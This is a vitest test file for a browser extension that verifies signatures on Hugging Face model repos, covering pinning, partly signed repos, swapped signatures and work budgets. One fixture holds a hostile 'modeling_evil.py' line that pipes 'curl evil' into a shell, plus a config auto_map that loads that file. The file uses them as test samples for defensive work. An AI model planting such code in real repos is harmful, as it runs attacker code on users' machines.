/**
 * Attacks on trust (review findings 1, 2, 3, 6), reproduced through the worker's own engine: hub
 * revision → commit cache → TrustStore.record, with real signatures from the fixture factory and a
 * fake hub. Nothing in the verifier is mocked.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { RevisionChecker } from '../../../extension/background/revision-checker.js';
import type { RevisionRef } from '../../../extension/core/repo-ref.js';
import { MemoryArea, SerializedStorage } from '../../../extension/background/storage.js';
import { allowDownload } from '../../../extension/background/downloads.js';
import { DEFAULT_SETTINGS, SettingsStore, normalizeSettings, workBudgetOf } from '../../../extension/background/settings.js';
import { adapterFor } from '../../../extension/core/hubs/index.js';
import { DEFAULT_REVISION } from '../../../extension/core/hub/revision-check.js';
import { DEFAULT_WORK_BUDGET, verifyRevision } from '../../../extension/core/hub/verify-revision.js';
import { TrustStore } from '../../../extension/core/trust/store.js';
import type { Verdict } from '../../../extension/core/verdict.js';
import { createKeySigner, createSigstoreSigner, createTestSigstore, signModel, type FileMap, type TestSigstore } from '../../factory/index.js';
import { FakeHub, fakeSha, type FakeFile, type FakeRepo } from './fake-hub.js';

const enc = new TextEncoder();
const ISSUER = 'https://token.actions.githubusercontent.com';
const OWNER = 'https://github.com/acme/model/.github/workflows/release.yml@refs/tags/v1';
const ATTACKER = 'https://github.com/m4llory/model/.github/workflows/release.yml@refs/heads/main';
const HUB = 'https://huggingface.co';

let sigstore: TestSigstore;
let root: unknown;
beforeAll(() => {
  sigstore = createTestSigstore({ seed: 'attacks-trust' });
  root = sigstore.trustedRoot();
});

function toFake(model: FileMap, sig?: string, lfs: (p: string) => boolean = (p) => p.endsWith('.safetensors')): Record<string, FakeFile> {
  const out: Record<string, FakeFile> = {};
  for (const [p, c] of Object.entries(model)) out[p] = { bytes: typeof c === 'string' ? enc.encode(c) : c, lfs: lfs(p) };
  if (sig) out['model.sig'] = { bytes: enc.encode(sig) };
  return out;
}
const sign = (model: FileMap, identity: string) => signModel({ files: model, signer: createSigstoreSigner(sigstore, { identity, issuer: ISSUER }) }).signature;

/** The worker's path for one page view: revision → commit-keyed cache → the trust decision for this view. */
function world(repos: FakeRepo[], opts: { budget?: { maxBytes: number; maxRequests: number } } = {}) {
  const hub = new FakeHub();
  for (const r of repos) hub.add(r);
  const local = new SerializedStorage(new MemoryArea());
  const store = new TrustStore(local);
  const checker = new RevisionChecker({
    fetch: hub.fetch,
    trust: store,
    cache: local,
    now: () => Date.now(),
    maxHashBytes: () => 1 << 20,
    trustedRoot: root,
    ...(opts.budget ? { budget: () => opts.budget! } : {}),
  });
  const view = async (repo: string, revision = DEFAULT_REVISION, kind: 'model' | 'dataset' = 'model'): Promise<Verdict> => {
    const ref: RevisionRef = { hub: HUB, kind, repo, revision };
    return checker.verdictFor(ref);
  };
  return { hub, store, view };
}

const V1: FileMap = { 'config.json': '{"v":1}', 'model.safetensors': 'weights v1' };
const V2: FileMap = { 'config.json': '{"v":2}', 'model.safetensors': 'weights v2' };

describe('finding 1: trust on first use only from the default branch head', () => {
  function prRepo(kind: 'model' | 'dataset' = 'model', extra: Partial<FakeRepo> = {}): FakeRepo {
    const main = fakeSha(`${kind}-main`);
    const pr = fakeSha(`${kind}-pr`);
    return {
      kind,
      id: 'acme/model',
      refs: { main, 'refs/pr/1': pr },
      commits: { [main]: toFake(V1, sign(V1, OWNER)), [pr]: toFake(V2, sign(V2, ATTACKER)) },
      ...extra,
    };
  }

  it('a pull request visited first does not pin its signer; the default branch then does, and the PR is an identity change', async () => {
    const { view, store, hub } = world([prRepo()]);
    const first = await view('acme/model', 'refs/pr/1');
    expect(first.state).toBe('unpinned-revision');
    if (first.state !== 'unpinned-revision') return;
    expect(first.signature.signer.identity).toBe(ATTACKER);
    expect(first.failure.code).toBe('NOT_DEFAULT_BRANCH');
    expect(first.failure.reason).toContain('default branch');
    expect(first.failure.params?.signer).toContain('m4llory');
    // It asked for the default head (the repo info endpoint) because a pin was at stake.
    expect(hub.log.filter((u) => u === `${HUB}/api/models/acme/model`)).toHaveLength(1);
    const rec = await store.repo({ hub: HUB, kind: 'model', repo: 'acme/model' });
    expect(rec?.pins ?? []).toEqual([]);
    expect(rec?.signedSince).toBeUndefined();

    const home = await view('acme/model');
    expect(home.state).toBe('verified-first-use');
    if (home.state === 'verified-first-use') expect(home.signature.signer.identity).toBe(OWNER);

    const again = await view('acme/model', 'refs/pr/1');
    expect(again.state).toBe('identity-changed');
    expect((await store.alerts()).unread).toBe(1);
  });

  it('the same for datasets', async () => {
    const { view } = world([prRepo('dataset')]);
    expect((await view('acme/model', 'refs/pr/1', 'dataset')).state).toBe('unpinned-revision');
    expect((await view('acme/model', DEFAULT_REVISION, 'dataset')).state).toBe('verified-first-use');
  });

  it('a branch named main is not assumed to be the default; commits are compared with the default head', async () => {
    const old = fakeSha('old-main');
    const head = fakeSha('release-head');
    const repo: FakeRepo = {
      kind: 'model',
      id: 'acme/model',
      refs: { main: old, release: head },
      defaultBranch: 'release',
      commits: { [old]: toFake(V1, sign(V1, ATTACKER)), [head]: toFake(V2, sign(V2, OWNER)) },
    };
    const { view, store } = world([repo]);
    expect((await view('acme/model', 'main')).state).toBe('unpinned-revision');
    // The default branch named explicitly, and its head commit as a bare SHA, are the default head.
    expect((await view('acme/model', head)).state).toBe('verified-first-use');
    expect((await view('acme/model', 'release')).state).toBe('verified');
    expect((await store.repo({ hub: HUB, kind: 'model', repo: 'acme/model' }))?.pins.map((p) => p.signer.identity)).toEqual([OWNER]);
  });

  it('a commit verified from a PR view is judged afresh when it later is the default head (never from the cache)', async () => {
    const r = prRepo();
    const { view, hub } = world([r]);
    expect((await view('acme/model', 'refs/pr/1')).state).toBe('unpinned-revision');
    r.refs.main = r.refs['refs/pr/1']!; // the owner merged the PR
    const merged = await view('acme/model');
    expect(merged.state).toBe('verified-first-use');
    expect(hub.log.filter((u) => u.includes('/resolve/') && u.endsWith('/model.sig'))).toHaveLength(1); // one verification of that commit
  });

  it('asks for the default head only when a first-use pin is at stake', async () => {
    const { view, hub } = world([prRepo()]);
    await view('acme/model'); // home page: the repo info answer is the resolution itself
    const info = () => hub.log.filter((u) => u === `${HUB}/api/models/acme/model`).length;
    expect(info()).toBe(1);
    expect(hub.log.filter((u) => u.includes('/revision/'))).toHaveLength(0);
    await view('acme/model', 'refs/pr/1'); // pinned repo: judged against the pin, no head lookup
    expect(info()).toBe(1);
  });

  it('a policy judges any revision: a matching signer on a PR is verified', async () => {
    const { view, store } = world([prRepo()]);
    await store.setExpected({ scope: 'acme/*', identity: 'https://github.com/m4llory/**', issuer: ISSUER });
    expect((await view('acme/model', 'refs/pr/1')).state).toBe('verified');
    expect((await view('acme/model')).state).toBe('identity-changed');
  });
});

describe('finding 2: partly signed repos are never green', () => {
  const weights = enc.encode('gguf weights, signed');
  const AUTO_MAP = '{"auto_map": {"AutoModel": "modeling_evil.EvilModel"}, "model_type": "evil"}';

  function perFileRepo(): FakeRepo {
    const c = fakeSha('per-file');
    const sig = signModel({ file: { name: 'model.gguf', content: weights }, signer: createSigstoreSigner(sigstore, { identity: OWNER, issuer: ISSUER }) }).signature;
    return {
      kind: 'model',
      id: 'acme/gguf',
      refs: { main: c },
      commits: {
        [c]: {
          'model.gguf': { bytes: weights, lfs: true },
          'model.gguf.sig': { bytes: enc.encode(sig) },
          'README.md': { bytes: enc.encode('# model') },
          'config.json': { bytes: enc.encode(AUTO_MAP) },
          'modeling_evil.py': { bytes: enc.encode('import os; os.system("curl evil | sh")') },
          '.gitattributes': { bytes: enc.encode('*.gguf filter=lfs') },
        },
      },
    };
  }

  it('per-file signatures beside unsigned code and config: partly-signed, code first, and the guard holds them', async () => {
    const { view } = world([perFileRepo()]);
    const v = await view('acme/gguf');
    expect(v.state).toBe('partly-signed');
    if (v.state !== 'partly-signed') return;
    expect(v.uncovered).toEqual(['modeling_evil.py', 'config.json', 'README.md']);
    expect(v.failure).toMatchObject({ code: 'PARTLY_SIGNED', params: { count: 3, files: 'modeling_evil.py, config.json, README.md' } });
    const file = (p: string) => v.files.find((f) => f.path === p);
    expect(file('model.gguf')?.status).toBe('verified');
    expect(allowDownload(v, file('modeling_evil.py'))).toBe(false);
    expect(allowDownload(v, file('config.json'))).toBe(false);
    expect(allowDownload(v, file('model.gguf'))).toBe(true);
  });

  it('a root model.sig that does not cover an added file stays files-changed', async () => {
    const c = fakeSha('root-added');
    const { view } = world([
      { kind: 'model', id: 'acme/root', refs: { main: c }, commits: { [c]: { ...toFake(V1, sign(V1, OWNER)), 'modeling_evil.py': { bytes: enc.encode('evil') } } } },
    ]);
    const v = await view('acme/root');
    expect(v).toMatchObject({ state: 'files-changed', failure: { code: 'FILES_MISMATCH' } });
  });
});

describe('finding 3: a pinned repo whose signature cannot be checked is red', () => {
  function swapped(bad: string): FakeRepo {
    const c1 = fakeSha('pinned-1');
    const c2 = fakeSha('pinned-2');
    return { kind: 'model', id: 'acme/pinned', refs: { main: c1 }, commits: { [c1]: toFake(V1, sign(V1, OWNER)), [c2]: toFake(V1, bad) } };
  }
  const unsupportedMediaType = () => {
    const b = JSON.parse(sign(V1, OWNER)) as Record<string, unknown>;
    b.mediaType = 'application/vnd.dev.sigstore.bundle.v0.9+json';
    return JSON.stringify(b);
  };
  const unknownKey = () => signModel({ files: V1, signer: createKeySigner('P-256', { seed: 'attacker-key' }) }).signature;
  const malformed = () => '{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json", "dsseEnvelope": ';

  for (const [name, bad] of [
    ['unsupported media type', unsupportedMediaType],
    ['a key nobody named', unknownKey],
    ['malformed', malformed],
  ] as const) {
    it(`replaced by a signature with ${name}: red, alert, no invitation to trust new key material`, async () => {
      const repo = swapped(bad());
      const { view, store } = world([repo]);
      expect((await view('acme/pinned')).state).toBe('verified-first-use');
      repo.refs.main = fakeSha('pinned-2');
      const v = await view('acme/pinned');
      expect(v.state).toBe('invalid-signature');
      if (v.state !== 'invalid-signature') return;
      expect(['SIGNATURE_UNCHECKABLE', 'BUNDLE_MALFORMED']).toContain(v.failure.code);
      expect(v.failure.reason).not.toMatch(/public key|add the|certificate for this repo/i);
      expect((await store.alerts()).unread).toBe(1);
    });
  }

  it('the same unknown-key signature on a repo never seen signed stays amber', async () => {
    const c = fakeSha('fresh');
    const { view } = world([{ kind: 'model', id: 'acme/fresh', refs: { main: c }, commits: { [c]: toFake(V1, unknownKey()) } }]);
    expect(await view('acme/fresh')).toMatchObject({ state: 'unverifiable', failure: { code: 'VERIFICATION_MATERIAL_UNSUPPORTED' } });
  });

  it('a network failure on a pinned repo stays amber (nothing is known about the signature)', async () => {
    const repo = swapped(unknownKey());
    const { view, hub } = world([repo]);
    await view('acme/pinned');
    repo.refs.main = fakeSha('pinned-2');
    hub.overrides.set(`${HUB}/acme/pinned/resolve/${fakeSha('pinned-2')}/model.sig`, () => new Response('busy', { status: 503 }));
    expect(await view('acme/pinned')).toMatchObject({ state: 'unverifiable', failure: { code: 'NETWORK_ERROR' } });
  });
});

describe('finding 6: bounded work per page view', () => {
  it('400 signed names over one 256 KiB LFS object: fetched and hashed once', async () => {
    const blob = new Uint8Array(256 * 1024).map((_, i) => (i * 7) & 0xff);
    const model: FileMap = {};
    for (let i = 0; i < 400; i++) model[`w/part-${String(i).padStart(3, '0')}.bin`] = blob;
    // BLAKE2b: the hub's listed SHA-256 cannot stand in, so every name would need its bytes.
    const sig = signModel({ files: model, hashType: 'blake2b', signer: createSigstoreSigner(sigstore, { identity: OWNER, issuer: ISSUER }) }).signature;
    const c = fakeSha('fanout');
    const { view, hub } = world([{ kind: 'model', id: 'acme/fanout', refs: { main: c }, commits: { [c]: toFake(model, sig, (p) => p.endsWith('.bin')) } }]);
    const v = await view('acme/fanout');
    expect(v.state).toBe('verified-first-use');
    const downloads = hub.log.filter((u) => u.includes('/resolve/'));
    expect(downloads).toHaveLength(2); // model.sig and the one object
  });

  it('beyond the download budget files are unchecked, the code names the budget, and the repo is not green', async () => {
    const model: FileMap = {};
    for (let i = 0; i < 20; i++) model[`cfg/part-${i}.json`] = `{"i": ${i}, "pad": "${'x'.repeat(1000)}"}`;
    const c = fakeSha('budget');
    const repo: FakeRepo = { kind: 'model', id: 'acme/budget', refs: { main: c }, commits: { [c]: toFake(model, sign(model, OWNER), () => false) } };
    const { view, hub } = world([repo], { budget: { maxBytes: 1024 * 1024, maxRequests: 11 } });
    const v = await view('acme/budget');
    expect(v.state).toBe('unverifiable');
    if (v.state !== 'unverifiable') return;
    expect(v.failure.code).toBe('WORK_BUDGET_EXCEEDED');
    expect(v.failure.params).toMatchObject({ count: 10, limit: '11 downloads, 1 MiB' });
    expect(v.files?.filter((f) => f.status === 'unchecked').every((f) => f.reason?.includes('budget'))).toBe(true);
    expect(hub.log.filter((u) => u.includes('/resolve/'))).toHaveLength(11);

    // A byte budget too: 20 files of ~1 KiB against 8 KiB.
    const small = world([repo], { budget: { maxBytes: 8 * 1024, maxRequests: 500 } });
    expect((await small.view('acme/budget')).state).toBe('unverifiable');
  });

  it('the default budget is documented, validated in settings and reaches the engine', async () => {
    expect(DEFAULT_WORK_BUDGET).toEqual({ maxBytes: 128 * 1024 * 1024, maxRequests: 500 });
    expect(workBudgetOf(DEFAULT_SETTINGS)).toEqual(DEFAULT_WORK_BUDGET);
    expect(workBudgetOf(normalizeSettings({ maxCheckBytes: 5, maxCheckRequests: 1e9 }))).toEqual(DEFAULT_WORK_BUDGET);
    expect(workBudgetOf(normalizeSettings({ maxCheckBytes: 64 * 1024 * 1024, maxCheckRequests: 50 }))).toEqual({ maxBytes: 64 * 1024 * 1024, maxRequests: 50 });
    const settings = new SettingsStore(new SerializedStorage(new MemoryArea()));
    await expect(settings.set({ maxCheckRequests: 0 })).rejects.toMatchObject({ code: 'STORE_INVALID' });
    await expect(settings.set({ maxCheckBytes: 1.5 })).rejects.toMatchObject({ code: 'STORE_INVALID' });
    expect((await settings.set({ maxCheckRequests: 40 })).maxCheckRequests).toBe(40);
  });

  it('verifyRevision dedupes non-LFS files by blob id', async () => {
    const model: FileMap = { 'a/config.json': '{"same": true}', 'b/config.json': '{"same": true}', 'c.json': '{"other": 1}' };
    const c = fakeSha('dedupe-git');
    const hub = new FakeHub().add({ kind: 'model', id: 'acme/dup', refs: { main: c }, commits: { [c]: toFake(model, sign(model, OWNER), () => false) } });
    const check = await verifyRevision({ client: adapterFor('https://huggingface.co').createClient({ fetch: hub.fetch }), kind: 'model', repo: 'acme/dup', revision: DEFAULT_REVISION, trustedRoot: root });
    expect(check.outcome.status).toBe('signed');
    if (check.outcome.status === 'signed') expect(check.outcome.files.filter((f) => f.status !== 'ignored').map((f) => f.status)).toEqual(['verified', 'verified', 'verified']);
    expect(hub.log.filter((u) => u.includes('/resolve/'))).toHaveLength(3); // model.sig, one of the twins, c.json
  });
});
